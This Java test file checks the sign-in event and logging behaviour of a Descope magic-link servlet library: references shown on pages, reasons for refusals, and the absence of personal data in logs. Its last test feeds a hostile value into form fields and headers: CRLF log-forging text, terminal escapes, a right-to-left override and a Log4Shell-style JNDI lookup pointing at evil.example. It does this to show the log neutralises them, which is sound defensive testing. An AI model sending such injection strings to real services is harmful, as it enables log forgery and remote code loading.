package org.descope4j.servlet;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import java.util.logging.SimpleFormatter;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.descope4j.emulator.DescopeEmulator;
import org.descope4j.emulator.Fault;
import org.descope4j.emulator.NewUser;
import org.descope4j.servlet.SignInEvent.Kind;
import org.descope4j.servlet.SignInEvent.Reason;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Test;

/** What the application and the operator hear: an event and a line of the log each, under the reference that the page shows. */
@DisplayNameGeneration(ReplaceUnderscores.class)
class EventsTest {
    private static final String ADA = "ada@example.com";
    private static final Pattern REFERENCE = Pattern.compile("[2-9B-Z]{4}-[2-9B-Z]{4}");

    private final DescopeEmulator emulator = DescopeEmulator.start();
    private final ServedApplication application = ServedApplication.start(
            emulator,
            emulator.baseUri(),
            settings -> settings.limitPerRecipient("3/h").phonePrefixes("+49"),
            Heard.LISTENING);
    private final Logger journal = Logger.getLogger(Journal.class.getName());
    private final List<String> lines = Collections.synchronizedList(new ArrayList<>());
    private final Handler recorder = new Handler() {
        @Override
        public void publish(LogRecord line) {
            lines.add(line.getLevel() + " " + new SimpleFormatter().formatMessage(line));
        }

        @Override
        public void flush() {}

        @Override
        public void close() {}
    };

    @BeforeEach
    void listen() {
        Heard.nothing();
        journal.addHandler(recorder);
    }

    @AfterEach
    void stop() {
        journal.removeHandler(recorder);
        application.close();
        emulator.close();
    }

    /** The page's reference, the event's, and that of exactly one line at INFO are the same. */
    private void assertTold(Answer page, Kind kind, Reason reason) {
        SignInEvent event = Heard.last();
        assertThat(event.kind()).isEqualTo(kind);
        assertThat(event.reason()).isEqualTo(reason);
        Matcher shown = REFERENCE.matcher(page.body().substring(page.body().indexOf("<main>")));
        assertThat(shown.find()).as("a reference on the page").isTrue();
        assertThat(shown.group()).isEqualTo(event.reference());
        assertThat(lines.stream().filter(line -> line.contains(event.reference())))
                .hasSize(1)
                .first()
                .asString()
                .startsWith("INFO ")
                .contains(kind.name(), reason.name());
        assertNothingPersonal(event);
    }

    private void assertNothingPersonal(SignInEvent event) {
        assertThat(event.toString() + event.detail()).doesNotContain("@", "+49", "127.0.0.1");
        assertThat(lines).allSatisfy(line -> assertThat(line).doesNotContain("@", "+49", "127.0.0.1"));
        assertThat(event.clientAddress()).isEqualTo("127.0.0.1");
        assertThat(event.time()).isBeforeOrEqualTo(emulator.clock().instant());
    }

    @Test
    void L3_a_link_that_is_sent_opened_elsewhere_confirmed_and_used_again_is_four_events() {
        Browser browser = application.browser();
        browser.askForLink("email", ADA, "");
        URI link = application.linkTo(ADA);
        Browser other = application.browser();
        Answer page = other.get(link.toString());
        other.confirm(page, link);
        emulator.advanceClock(Duration.ofSeconds(20));
        Answer used = browser.get(link.toString());

        assertThat(Heard.events())
                .extracting(SignInEvent::kind)
                .containsExactly(Kind.LINK_SENT, Kind.CONFIRMED, Kind.SIGNED_IN, Kind.REFUSED);
        assertThat(Heard.events().get(0).detail()).isEqualTo("email");
        assertThat(Heard.events().get(2).userId()).isPresent();
        assertThat(used.status()).isEqualTo(400);
        assertThat(Heard.last().reason()).isEqualTo(Reason.LINK_USED_OR_EXPIRED);
        assertThat(lines).hasSize(4).allMatch(line -> line.startsWith("INFO "));
    }

    @Test
    void L3_every_page_one_can_complain_about_has_a_reason_that_the_log_and_the_event_tell() {
        Browser browser = application.browser();
        browser.askForLink("email", ADA, "");
        URI link = application.linkTo(ADA);
        Browser other = application.browser();
        Answer page = other.get(link.toString());

        assertTold(other.get(link.getPath()), Kind.REFUSED, Reason.LINK_DAMAGED);
        assertTold(other.post(link.getPath(), Map.of("t", "x")), Kind.REFUSED, Reason.FORGED_FORM);
        assertTold(other.post("/app/auth/sign-in", Map.of("loginId", ADA)), Kind.LINK_NOT_SENT, Reason.FORGED_FORM);
        emulator.misbehave(Fault.status(503).at("/v1/auth/magiclink/verify").times(1));
        assertTold(other.confirm(page, link), Kind.REFUSED, Reason.DESCOPE_UNAVAILABLE);
        emulator.misbehave(Fault.rateLimited(Duration.ofSeconds(7))
                .at("/v1/auth/magiclink/verify")
                .times(1));
        assertTold(other.confirm(page, link), Kind.LIMITED, Reason.TOO_MANY_AT_DESCOPE);
        browser.get(link.toString());
        assertTold(other.confirm(page, link), Kind.REFUSED, Reason.LINK_USED_OR_EXPIRED);
        emulator.misbehave(
                Fault.status(503).at("/v1/auth/magiclink/signup-in/email").times(1));
        assertTold(other.askForLink("email", "bob@example.com", ""), Kind.LINK_NOT_SENT, Reason.DESCOPE_UNAVAILABLE);
        other.askForLink("email", ADA, "");
        other.askForLink("email", ADA, "");
        assertTold(other.askForLink("email", ADA, ""), Kind.LIMITED, Reason.TOO_MANY_HERE);
    }

    @Test
    void L3_tokens_too_large_and_of_somebody_else_are_told_apart() {
        emulator.users()
                .add(NewUser.builder("large@example.com")
                        .roles(java.util.stream.IntStream.range(0, 300)
                                .mapToObj(i -> "a-role-of-many-" + i)
                                .toArray(String[]::new))
                        .build());
        Browser browser = application.browser();
        browser.askForLink("email", "large@example.com", "");
        Answer large = browser.get(application.linkTo("large@example.com").toString());
        assertTold(large, Kind.REFUSED, Reason.TOKEN_TOO_LARGE);

        browser.askForLink("email", ADA, "");
        String adasState = application.linkTo(ADA).getPath();
        application.browser().askForLink("email", "eve@example.com", "");
        String evesToken = emulator.inbox().latest("eve@example.com").token();
        Answer glued = browser.get(adasState + "?t=" + evesToken);
        assertTold(glued, Kind.REFUSED, Reason.OTHER_USER);
    }

    @Test
    void L3_what_the_person_is_not_told_is_an_event_all_the_same() {
        Browser browser = application.browser();
        browser.askForLink("sms", "+8821612345678", "");
        assertThat(Heard.last().kind()).isEqualTo(Kind.LINK_NOT_SENT);
        assertThat(Heard.last().reason()).isEqualTo(Reason.COUNTRY_NOT_SERVED);

        emulator.misbehave(
                Fault.status(403).at("/v1/auth/magiclink/signup-in/email").times(1));
        browser.askForLink("email", ADA, "");
        assertThat(Heard.last().kind()).isEqualTo(Kind.LINK_NOT_SENT);
        assertThat(Heard.last().reason()).isEqualTo(Reason.REFUSED_BY_DESCOPE);
    }

    @Test
    void L3_signing_out_is_an_event_too() {
        Browser browser = application.signedIn(ADA);
        Answer form = browser.get("/app/auth/sign-out");

        browser.post("/app/auth/sign-out", Map.of("_descope_csrf", form.hidden("_descope_csrf")));

        assertThat(Heard.last().kind()).isEqualTo(Kind.SIGNED_OUT);
        assertThat(Heard.last().userId()).isPresent();
    }

    @Test
    void L2_hostile_text_in_any_field_makes_no_second_line() {
        String hostile = "x\r\nINFO SIGNED_IN forged\u001b[31m ${jndi:ldap://evil.example/a} \u202e";
        Browser browser = application.browser();
        String csrf = browser.get("/app/auth/sign-in").hidden("_descope_csrf");

        for (String field : List.of("loginId", "returnTo", "deliveryMethod", "t")) {
            browser.post("/app/auth/sign-in", Map.of("_descope_csrf", csrf, field, hostile));
            browser.post("/app/auth/verify", Map.of("_descope_csrf", csrf, field, hostile));
        }
        browser.get(
                "/app/auth/verify?t=", "User-Agent", "x ${jndi:ldap://evil.example/a}", "X-Forwarded-For", "${jndi:x}");

        assertThat(lines)
                .isNotEmpty()
                .allSatisfy(line -> assertThat(line)
                        .hasSizeLessThan(257)
                        .doesNotContain("forged", "jndi", "\n", "\r", "\u001b", "\u202e"));
    }
}
